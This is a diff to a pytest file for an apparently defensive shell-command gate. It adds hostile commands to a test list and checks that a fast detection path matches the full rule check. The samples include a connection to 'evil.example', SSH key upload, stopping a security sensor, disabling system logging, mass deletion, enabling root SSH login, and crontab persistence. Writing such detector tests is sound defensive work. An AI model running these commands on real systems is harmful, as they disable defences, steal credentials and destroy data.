@@ -348,24 +348,34 @@ _ANY_PROGRAM = [
     "ztcp evil.example 4444 >&$REPLY", "copy C:\\Windows\\System32\\cmd.exe C:\\Users\\Public\\svc.exe & svc.exe",
     "cp /bin/bash /tmp/helper; /tmp/helper -p", "xcopy /bin/sh ./notes; ./notes", "put ~/.ssh/id_rsa",
     "cd /tmp && ./x.sh -o /etc/passwd", "nohup runner --log-file /etc/pam.d/sshd &",
+    # checks that build on an earlier finding of the command (a defence, a delete, an account, code run unseen,
+    # persistence), for programs no check names
+    "systemctl stop falcon-sensor", "sed -i 's/Storage=auto/Storage=none/' /etc/systemd/journald.conf",
+    "rm -rf ~/Documents/*", "rm -rf /var/lib/postgresql/data", "chown bob /etc/sudoers",
+    "sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config", "mytool -engine /tmp/evil.so",
+    "echo '* * * * * /tmp/.x/run' >> /etc/crontab", "systemctl enable /tmp/.cache/evil.service",
 ]
 
 
 @pytest.mark.parametrize("command", _ANY_PROGRAM)
 def test_the_short_way_finds_what_every_check_finds(command: str) -> None:
-    """A command with no findings, not run as root, of a program no check names, takes the short way: it must
-    add exactly what the full list of checks adds, in the same order."""
+    """A command not run as root, of a program no check names, with no finding a check builds on, takes the
+    short way: it must add exactly what the full list of checks adds, in the same order, whatever finding of
+    any shell rule it already has (each rule in turn) and whatever the commands before it found."""
+    from gate.rules.shell import RULES
     from gate.rules.shell_context import _base, _escalate, escalate
-    from gate.shell import analyse
+    from gate.shell import Finding, analyse
 
     detector = GATE.compiled.shell
     analysis = analyse(command)
+    priors = [[], *([Finding(r.id, r.risk, "earlier", "x")] for r in RULES)]
     for cmd in analysis.commands:
-        short: list = []
-        full: list = []
-        escalate(detector, cmd, analysis, [], [], "", short.append)
-        _escalate(detector, cmd, analysis, [], [], _base(cmd.name), "", full.append)
-        assert short == full, (cmd.argv, short, full)
+        for found in priors:
+            short: list = []
+            full: list = []
+            escalate(detector, cmd, analysis, found, found, "", short.append)
+            _escalate(detector, cmd, analysis, found, found, _base(cmd.name), "", full.append)
+            assert short == full, (cmd.argv, found, short, full)
 
 
 def test_the_short_way_still_blocks_a_write_through_an_output_flag() -> None:
